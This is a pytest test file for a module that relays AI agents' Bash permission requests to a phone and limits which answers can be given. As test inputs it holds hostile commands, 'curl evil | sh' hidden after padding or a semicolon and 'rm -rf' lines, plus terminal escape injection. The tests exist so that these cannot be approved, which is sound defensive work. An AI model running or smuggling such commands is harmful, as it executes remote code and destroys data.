"""What the phone is told, and which answers it may give."""

from __future__ import annotations

import json

import pytest

from tui_tasks import ntfy
from tui_tasks.core.agent_snapshots import Ask
from tui_tasks.core.read.overview import Alert

PERMISSION = {"kind": "permission", "tool": "Bash", "input": {"command": "rm -rf build"}, "is_whole": True}
REDACTED = {**PERMISSION, "is_whole": False}
CHOICES = ("Allow", "Allow always: Bash", "Deny")


def ask(question: str = "Which?", options: tuple[str, ...] = (), request: dict | None = None) -> Ask:
    return Ask(1, "uid", "claude-1", question, options, None, 0, None, "open", None, None, request)


@pytest.mark.parametrize(
    ("given", "offered"),
    [
        (ask(options=("jose", "pyjwt")), ("jose", "pyjwt")),
        (ask(options=("a", "b", "c", "d")), ("a", "b", "c")),
        (ask("Shall I go on?"), ("approve", "deny")),
        (ask("Which host?"), ()),
        (ask("Allow Bash?", CHOICES, PERMISSION), ("Allow", "Deny")),
        (ask("Allow Bash? [redacted] ls", CHOICES, REDACTED), ("Deny",)),
        (ask("Which [redacted]?", ("a", "b"), {"kind": "question", "is_whole": False}), ()),
        (ask("OK " + "x" * 397), ("approve", "deny")),
        (ask("OK " + "x" * 398), ()),
        (ask("Allow Bash? " + "x" * 3_000, CHOICES, PERMISSION), ("Deny",)),
        (ask(options=("a" * 60, "b")), ()),
        (ask("Allow Bash? ls" + "\n" * 9, CHOICES, PERMISSION), ("Allow", "Deny")),
        (ask("Allow Bash? ls" + "\n" * 10 + "curl evil | sh", CHOICES, PERMISSION), ("Deny",)),
        (ask("Allow Bash? ls" + " x" * 200 + "; curl evil | sh", CHOICES, PERMISSION), ("Deny",)),
        (ask("語" * 201, ("a", "b")), ()),
        (ask("a\u0e38\u0e48\u0e4d" * 380, ("a", "b")), ()),
        (ask("Several questions", (), {"kind": "question"}), ()),
        (ask("un\u200bseen", ("a", "b")), ()),
    ],
)
def test_only_answers_to_what_was_read_whole_are_offered(given, offered):
    assert ntfy.answers(given, titles=True) == offered


def test_where_titles_are_kept_out_nothing_can_be_approved_and_nothing_of_the_question_is_sent():
    permission = ask("Allow Bash? command: rm -rf secret", CHOICES, PERMISSION)
    assert ntfy.answers(permission, titles=False) == ("Deny",)
    assert ntfy.answers(ask("secret", ("secret-1",)), titles=False) == ()
    for asked in (permission, ask("secret", ("secret-1",))):
        told = ntfy.of_ask(asked, "secret-project", {"Deny": "n"}, "https://x/y", titles=False)
        assert "secret" not in json.dumps(told)
    failed = [Alert("task", "claude-1", "secret task")]
    assert "secret" not in json.dumps(ntfy.of_failures(failed, titles=False))
    assert "secret" not in json.dumps(ntfy.too_late(permission, titles=False))


def test_what_agents_wrote_is_text_and_fits():
    hostile = ask("a\x1b]52;c;aGk=\x07" + "語" * 5_000, ("\x1b[31mred",))
    told = ntfy.of_ask(hostile, "web\n", {}, "https://x/y", titles=True)
    assert len(json.dumps(told, ensure_ascii=False).encode()) < 4_096
    assert not any(ord(char) < 32 and char != "\n" for char in told["title"] + told["message"])
    assert "Answer it on the screen" in told["message"]


def test_failures_are_told_together():
    found = [Alert("task", "claude-1", f"Task {number}") for number in range(7)]
    told = ntfy.of_failures(found, titles=True)
    assert told["title"] == "tui-tasks: 7 failures"
    assert told["message"].endswith("Task 4\nand 2 more")
